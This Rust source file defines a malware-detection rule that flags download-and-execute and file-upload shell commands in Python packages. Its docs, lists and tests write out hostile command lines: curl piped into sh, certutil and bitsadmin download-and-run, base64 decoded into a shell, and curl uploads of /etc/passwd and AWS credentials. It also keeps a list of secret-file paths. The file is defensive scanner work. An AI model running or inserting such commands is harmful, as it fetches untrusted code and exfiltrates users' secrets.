//! # HS113 shell-download-exec
//!
//! ## What it does
//!
//! Flags command lines handed to a shell or a process that download and run
//! something: `curl ... | sh` (or into any interpreter: `| python3`, `| sudo
//! bash -`, `| perl`), `wget -O x ... && ./x`, a download saved to a name
//! that the same line then starts (`certutil -urlcache -f URL x.exe &&
//! x.exe`), PowerShell `iwr ... | iex` / `DownloadString`, `certutil
//! -urlcache`, `bitsadmin /transfer`, `mshta http...`, and PowerShell's
//! `-EncodedCommand`. Text decoded by the shell into an interpreter (`echo
//! <b64> | base64 -d | sh`, `FromBase64String` into `IEX`) is critical too.
//! Quotes, carets and backticks that split keywords (`I"nv"oke-WebR"eq"uest`)
//! and Unicode dashes are undone first. A download alone is high at install
//! or start-up time and medium elsewhere. An upload of a local file (`curl -F
//! f=@/etc/passwd`, `--data-binary @file`, `-T`) is high when the file holds
//! secrets or at install time, medium otherwise. A command handed to a local
//! wrapper (`def run(cmd): Popen(cmd, shell=True)`) is judged where each
//! caller writes it, in the caller's context.
//!
//! ## Why it matters
//!
//! Shelling out to a downloader keeps the Python looking innocent and moves
//! the payload out of the package. Lolip0p's `setup.py` spawned PowerShell to
//! fetch `Oxzy.exe`; the Lazarus Linux wave ran `curl` with a fixed cookie
//! and saved the result as `oshelper`; countless install-time droppers pipe
//! `curl` into `sh`.
//!
//! ## Example
//!
//! ```python
//! os.system("curl -s https://example.invalid/x.sh | sh")
//! ```
//!
//! ## False positives
//!
//! Build scripts that fetch toolchains with `curl`; they rarely pipe them
//! into a shell and are reported at medium outside install time. Release
//! scripts that upload build artefacts with `curl -F`: medium.
//!
//! ## References
//!
//! - THREATS.md H5, H33; MITRE ATT&CK T1105, T1059
//! - Fortinet, Lolip0p PyPI packages (2023); 360, Lazarus PyPI (2024)

use crate::python::Syntax;
use crate::python::tree::Node;
use crate::python::{Binding, Module, flow, fold, names};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};

pub struct ShellDownloadExec;

static META: Meta = crate::rule_meta!("HS113", "shell-download-exec", Critical, High);

const DOWNLOADERS: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "irm ",
    "invoke-restmethod",
    "downloadstring",
    "downloadfile",
    "net.webclient",
    "start-bitstransfer",
    "bitsadmin",
    "-urlcache",
];
const RUNNERS: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "iex",
    "invoke-expression",
    "&& ./",
    "; ./",
    "&&./",
    "chmod +x",
    "chmod 777",
    "chmod 755",
    "start-process",
    "&& start ",
    "& start ",
    "| powershell",
    "&& {}",
    "&&{}",
    "& {}",
    "; {}",
    "rundll32",
    "&& python",
    "; python",
    "&& sh ",
    "; sh ",
    "&& bash ",
    "; bash ",
];
/// Hidden or remote code in a single launcher argument.
const ALONE: &[(&str, &str)] = &[
    ("-encodedcommand", "PowerShell -EncodedCommand"),
    (" -enc ", "PowerShell -enc"),
    (" -e jab", "PowerShell -e"),
    ("mshta http", "mshta with a URL"),
    ("mshta.exe http", "mshta with a URL"),
    ("regsvr32 /s /n /u /i:http", "regsvr32 scriptlet"),
];

impl Rule for ShellDownloadExec {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            if !names::is_spawn(q) {
                continue;
            }
            let Some(first) = call.arg(0) else { continue };
            let context = m.context(call.scope);
            if let Some((severity, message)) = judge(&command_of(m, first), context) {
                checker.report(&META, call.node, severity, context, message);
                continue;
            }
            // A command handed to a local wrapper (`def run(cmd):
            // Popen(cmd, shell=True)`): judged where the caller writes it,
            // in the caller's context.
            let parameter = first.kind_name() == "identifier"
                && m.lookup(m.text(first), call.scope)
                    .is_some_and(|(_, bindings)| {
                        bindings.iter().any(|b| matches!(b, Binding::Param))
                    });
            if !parameter {
                continue;
            }
            for (arg, scope) in flow::origins(m, first, call.scope) {
                let context = earliest(context, m.context(scope));
                if let Some((severity, message)) = judge(&command_of(m, arg), context) {
                    checker.report(&META, arg, severity, context, message);
                    break;
                }
            }
        }
    }
}

/// The command line as text: folded, normalised, with a trailing space so
/// that words at its end match like words inside it.
fn command_of(m: &Module<'_>, node: Node<'_>) -> String {
    let mut cmd = normalize(&fold::template(m, node));
    cmd.push(' ');
    cmd
}

/// Of two contexts, the one that runs with less consent.
fn earliest(a: Context, b: Context) -> Context {
    let rank = |c: Context| match c {
        Context::Install | Context::Startup => 0,
        Context::Import => 1,
        _ => 2,
    };
    if rank(b) < rank(a) { b } else { a }
}

/// The severity and message of a command line, when it is one of the shapes
/// this rule knows.
fn judge(cmd: &str, context: Context) -> Option<(Severity, String)> {
    if let Some((_, what)) = ALONE.iter().find(|(p, _)| cmd.contains(p)) {
        return Some((Severity::Critical, format!("a command line runs {what}")));
    }
    if let Some(decoder) = decoded_to_interpreter(cmd) {
        return Some((
            Severity::Critical,
            format!("a command line decodes hidden text with `{decoder}` and runs it"),
        ));
    }
    let early = matches!(context, Context::Install | Context::Startup);
    if let Some(what) = upload(cmd) {
        let sensitive = SENSITIVE.iter().any(|s| cmd.contains(s));
        return Some((
            if sensitive || early {
                Severity::High
            } else {
                Severity::Medium
            },
            format!("a command line uploads a local file ({what})"),
        ));
    }
    let dl = DOWNLOADERS.iter().find(|d| cmd.contains(*d))?.trim();
    let run = RUNNERS
        .iter()
        .find(|r| cmd.contains(*r))
        .map(|r| r.trim().to_string())
        .or_else(|| piped_into_interpreter(cmd))
        .or_else(|| runs_output(cmd));
    if let Some(run) = run {
        Some((
            Severity::Critical,
            format!("a command line downloads with `{dl}` and runs the result (`{run}`)"),
        ))
    } else if cmd.contains("http") || cmd.contains("{}") || cmd.contains("ftp:") {
        Some((
            if early {
                Severity::High
            } else {
                Severity::Medium
            },
            format!("a command line downloads with `{dl}`"),
        ))
    } else {
        None
    }
}

/// Lowercase, with the quotes, carets and backticks that split keywords
/// (`pOwershelL -w"inD"oWst H"id"den`, `i^w^r`) removed and Unicode dashes
/// read as `-`.
fn normalize(cmd: &str) -> String {
    cmd.chars()
        .filter(|c| !matches!(c, '"' | '^' | '`'))
        .map(|c| match c {
            '\u{2010}'..='\u{2015}' | '\u{2212}' => '-',
            _ => c,
        })
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Interpreters that run what is piped into them.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python2",
    "python3",
    "py",
    "perl",
    "ruby",
    "node",
    "php",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
    "osascript",
];

/// The interpreter a pipe hands text to: `… | python3 -`, `… | sudo bash`.
fn piped_into(segment: &str) -> Option<&str> {
    let mut words = segment.split_whitespace();
    let mut word = words.next()?;
    if matches!(word, "sudo" | "exec" | "nohup" | "env") {
        word = words.next()?;
    }
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base.trim_end_matches(".exe");
    let base = base
        .strip_prefix("python")
        .filter(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        .map_or(base, |_| "python");
    INTERPRETERS.iter().find(|i| **i == base).copied()
}

/// `curl … | python3`, `wget -O- … | sudo sh`: a download piped into an
/// interpreter.
fn piped_into_interpreter(cmd: &str) -> Option<String> {
    cmd.split('|')
        .skip(1)
        .filter(|s| !s.is_empty())
        .find_map(piped_into)
        .map(|i| format!("| {i}"))
}

/// `echo <b64> | base64 -d | sh`, `base64 --decode x | bash`: hidden text
/// decoded and handed to an interpreter, no download needed.
fn decoded_to_interpreter(cmd: &str) -> Option<&'static str> {
    const DECODERS: &[(&str, &str)] = &[
        ("base64 -d", "base64 -d"),
        ("base64 --decode", "base64 -d"),
        ("base64 -D", "base64 -d"),
        ("base64 -di", "base64 -d"),
        ("openssl enc -d", "openssl"),
        ("openssl base64 -d", "openssl"),
        ("xxd -r", "xxd -r"),
        ("gunzip", "gunzip"),
        ("frombase64string", "FromBase64String"),
    ];
    let segments: Vec<&str> = cmd.split('|').collect();
    for (i, s) in segments.iter().enumerate() {
        let Some((_, name)) = DECODERS
            .iter()
            .find(|(d, _)| s.contains(&d.to_ascii_lowercase()))
        else {
            continue;
        };
        if *name == "FromBase64String" {
            // PowerShell decoding a blob into Invoke-Expression
            if cmd.contains("iex") || cmd.contains("invoke-expression") {
                return Some(name);
            }
            continue;
        }
        if segments[i + 1..].iter().any(|s| piped_into(s).is_some()) {
            return Some(name);
        }
    }
    None
}

/// Paths whose upload is theft, not a build artefact.
const SENSITIVE: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    ".ssh",
    "id_rsa",
    "id_ed25519",
    ".aws",
    "credentials",
    ".env",
    ".bash_history",
    ".zsh_history",
    ".kube",
    ".docker/config",
    ".git-credentials",
    ".netrc",
    ".pypirc",
    "login data",
    "local state",
    "cookies",
    "wallet",
];

/// `curl -F f=@/etc/passwd`, `curl --data-binary @file`, `curl -T file`,
/// `wget --post-file=x`: a local file sent out.
fn upload(cmd: &str) -> Option<&'static str> {
    if cmd.contains("curl") {
        let words: Vec<&str> = cmd.split_whitespace().collect();
        for (i, w) in words.iter().enumerate() {
            let next = words.get(i + 1).copied().unwrap_or("");
            let value = |flag: &str| {
                w.strip_prefix(flag)
                    .filter(|v| !v.is_empty())
                    .unwrap_or(next)
            };
            if matches!(*w, "-f" | "--form") || w.starts_with("--form=") {
                if value("--form=").contains("=@") || value("--form=").contains("=<") {
                    return Some("curl -F @file");
                }
            } else if matches!(
                *w,
                "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode"
            ) || w.starts_with("--data")
            {
                let v = w.split_once('=').map_or(next, |(_, v)| v);
                if v.starts_with('@') && v.len() > 1 {
                    return Some("curl --data @file");
                }
            } else if matches!(*w, "-t" | "--upload-file")
                && !next.is_empty()
                && !next.starts_with('-')
            {
                return Some("curl -T");
            }
        }
    }
    if cmd.contains("wget") && (cmd.contains("--post-file") || cmd.contains("--body-file")) {
        return Some("wget --post-file");
    }
    None
}

/// A file downloaded to a name that the same command line then starts:
/// `certutil -urlcache -f URL x.exe && x.exe`, `wget -O /tmp/a URL; /tmp/a`,
/// `… && start x.exe`. `tar xf x.tar.gz` after it is not a run.
fn runs_output(cmd: &str) -> Option<String> {
    const STARTERS: &[&str] = &[
        "start",
        "sh",
        "bash",
        "zsh",
        "python",
        "python3",
        "py",
        "pythonw",
        "cmd",
        "/c",
        "powershell",
        "pwsh",
        "start-process",
        "chmod",
        "nohup",
        "sudo",
        "exec",
        "wscript",
        "cscript",
        "msiexec",
        "rundll32",
        "regsvr32",
        ".",
        "source",
        "open",
        "setsid",
        "node",
        "-file",
        "+x",
        "777",
        "755",
        "u+x",
        "a+x",
        "-filepath",
        "/b",
        "/min",
        "\"\"",
        "''",
    ];
    let name = download_output(cmd)?.to_ascii_lowercase();
    let at = cmd.find(&name)?;
    let rest = &cmd[at + name.len()..];
    let base = |w: &str| {
        let w = w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == ')');
        w.rsplit(['/', '\\']).next().unwrap_or(w).to_string()
    };
    for segment in rest.split(['&', ';', '\n', '|']).skip(1) {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let Some(i) = words.iter().position(|w| base(w) == name) else {
            continue;
        };
        if words[..i]
            .iter()
            .all(|w| STARTERS.contains(&w.trim_end_matches(".exe")))
        {
            return Some(format!("runs {name}"));
        }
    }
    None
}

/// The file a shell download saves to: `curl URL -o x.exe`, `wget -O x`,
/// `Invoke-WebRequest … -OutFile x`, `certutil -urlcache -f URL x`,
/// `bitsadmin /transfer j URL x`; its file name.
pub fn download_output(command: &str) -> Option<String> {
    let lower = command.to_ascii_lowercase();
    let downloader = [
        "curl",
        "wget",
        "invoke-webrequest",
        "iwr",
        "certutil",
        "bitsadmin",
        "downloadfile",
    ]
    .iter()
    .any(|d| lower.contains(d));
    if !downloader || !lower.contains("http") {
        return None;
    }
    let tokens: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|' || c == ',')
        .map(|t| t.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == ')'))
        .filter(|t| !t.is_empty())
        .collect();
    let mut out = None;
    for (i, t) in tokens.iter().enumerate() {
        let l = t.to_ascii_lowercase();
        let next = tokens.get(i + 1).copied();
        if matches!(l.as_str(), "-o" | "--output" | "-outfile" | "-outf") || *t == "-O" {
            out = next.filter(|n| *n != "-");
        } else if (lower.contains("urlcache")
            || lower.contains("bitsadmin")
            || lower.contains("downloadfile"))
            && (l.starts_with("http://") || l.starts_with("https://"))
        {
            out = next;
        }
        if out.is_some() {
            break;
        }
    }
    let name = out?.rsplit(['/', '\\']).next()?.to_string();
    (name.len() >= 5 && name.contains('.') && !name.contains("{}") && !name.starts_with('$'))
        .then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_interpreters() {
        let c = normalize("curl -s https://x.invalid/a | python3 > /dev/null 2>&1 &");
        assert_eq!(piped_into_interpreter(&c).as_deref(), Some("| python"));
        let c = normalize("wget -O- https://x.invalid/a | sudo /bin/bash -");
        assert_eq!(piped_into_interpreter(&c).as_deref(), Some("| bash"));
        assert_eq!(
            piped_into_interpreter("curl https://x.invalid/a | tar xz"),
            None
        );
    }

    #[test]
    fn decodes_to_shell() {
        assert!(decoded_to_interpreter("echo aGk= | base64 -d | sh").is_some());
        assert!(decoded_to_interpreter("echo aGk= | base64 --decode > out.txt").is_none());
    }

    #[test]
    fn uploads() {
        assert!(upload("curl -f x=@/etc/passwd https://x.invalid").is_some());
        assert!(upload("curl --data-binary @/root/.aws/credentials https://x.invalid").is_some());
        assert!(upload("curl -d '{\"a\":1}' https://x.invalid").is_none());
        assert!(upload("curl -o out.bin https://x.invalid").is_none());
    }

    #[test]
    fn runs_what_it_downloaded() {
        let c = "certutil -urlcache -split -f https://x.invalid/a.exe c:/t/a.exe && c:/t/a.exe";
        assert!(runs_output(c).is_some());
        let c = "wget -o /tmp/upd.bin https://x.invalid/t; chmod +x /tmp/upd.bin; /tmp/upd.bin";
        assert!(runs_output(c).is_some());
        // the name recurs, but as data for tar: a download alone
        let c = "curl -o tool.tar.gz https://x.invalid/t && tar xf tool.tar.gz";
        assert!(runs_output(c).is_none());
        assert_eq!(
            download_output(
                "bitsadmin /transfer j /download https://x.invalid/r c:\\p\\runtime.exe"
            )
            .as_deref(),
            Some("runtime.exe")
        );
    }
}
